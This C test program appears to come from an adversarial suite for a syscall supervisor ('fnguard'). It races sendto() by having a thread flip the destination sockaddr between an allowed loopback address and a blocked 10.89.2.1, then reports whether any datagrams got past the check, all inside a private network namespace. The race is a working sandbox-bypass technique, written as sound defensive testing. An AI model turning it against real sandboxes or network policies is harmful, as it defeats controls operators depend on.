/* sendto_race — the connect_race attack on sendto(): a racing thread
 * rewrites the destination sockaddr between the supervisor's check and the
 * kernel's use of it, flipping between an allowed loopback receiver and a
 * blocked one (10.89.2.1), while the main thread sends UDP datagrams.
 *
 * The program makes a network namespace of its own (unshare(CLONE_NEWNET))
 * and puts 10.89.2.1 on its lo, so no packet can leave it. A datagram that
 * reaches 10.89.2.1 is a bypass (natively about half of them do).
 *
 * Vector:
 *   sendto_race  - 5000 sendto() on one UDP socket, the sockaddr flipping
 *                  (fnguard must send the checked address, or check after)
 * Env: none besides the usual (only FNG_WORKDIR is checked to be set).
 */
#define _GNU_SOURCE
#include "adv.h"

#include <pthread.h>
#include <stdatomic.h>

#define ATTEMPTS 5000
#define PORT 5405

static struct sockaddr_in g_addr; /* the shared buffer the racer flips */
static atomic_int g_stop;

static void *racer(void *arg)
{
	(void)arg;
	struct in_addr lo, blocked;
	inet_pton(AF_INET, "127.0.0.1", &lo);
	inet_pton(AF_INET, "10.89.2.1", &blocked);
	/* volatile: each value must really sit in memory for a while */
	volatile uint32_t *a = &g_addr.sin_addr.s_addr;
	while (!atomic_load_explicit(&g_stop, memory_order_relaxed)) {
		*a = blocked.s_addr;
		for (volatile int k = 0; k < 200; k++)
			;
		*a = lo.s_addr;
		for (volatile int k = 0; k < 200; k++)
			;
	}
	return NULL;
}

int main(void)
{
	static const char *const blocked[] = { "10.89.2.1" };
	int r_lo, r_blocked, s, sent = 0, denied = 0, other = 0, got_lo = 0, got_blocked = 0;
	pthread_t t;

	adv_init();
	need_env("FNG_WORKDIR");
	adv_own_netns(blocked, 1);
	r_lo = adv_receiver(SOCK_DGRAM, "127.0.0.1", PORT);
	r_blocked = adv_receiver(SOCK_DGRAM, "10.89.2.1", PORT);
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (r_lo < 0 || r_blocked < 0 || s < 0)
		env_error("cannot set up the sockets: %s", strerror(errno));
	g_addr.sin_family = AF_INET;
	g_addr.sin_port = htons(PORT);
	inet_pton(AF_INET, "127.0.0.1", &g_addr.sin_addr);
	pthread_create(&t, NULL, racer, NULL);
	for (int i = 0; i < ATTEMPTS; i++) {
		if (sendto(s, "x", 1, 0, (struct sockaddr *)&g_addr, sizeof(g_addr)) == 1)
			sent++;
		else if (is_denial(errno))
			denied++;
		else
			other++;
		if (i % 16 == 0) {
			got_lo += adv_arrivals(r_lo, 0);
			got_blocked += adv_arrivals(r_blocked, 0);
		}
	}
	atomic_store(&g_stop, 1);
	pthread_join(t, NULL);
	got_lo += adv_arrivals(r_lo, 250);
	got_blocked += adv_arrivals(r_blocked, 250);
	if (got_lo == 0)
		report("sendto_race", ERRORED, "nothing reached the allowed receiver: the race did not run (sent=%d denied=%d other=%d)",
		       sent, denied, other);
	else if (got_blocked)
		report("sendto_race", BYPASSED, "%d/%d datagrams reached 10.89.2.1 (allowed=%d, denied=%d, other=%d)",
		       got_blocked, ATTEMPTS, got_lo, denied, other);
	else
		report("sendto_race", DEFENDED, "0/%d datagrams reached 10.89.2.1 (allowed=%d, denied=%d, other=%d)",
		       ATTEMPTS, got_lo, denied, other);
	return adv_exit_status();
}
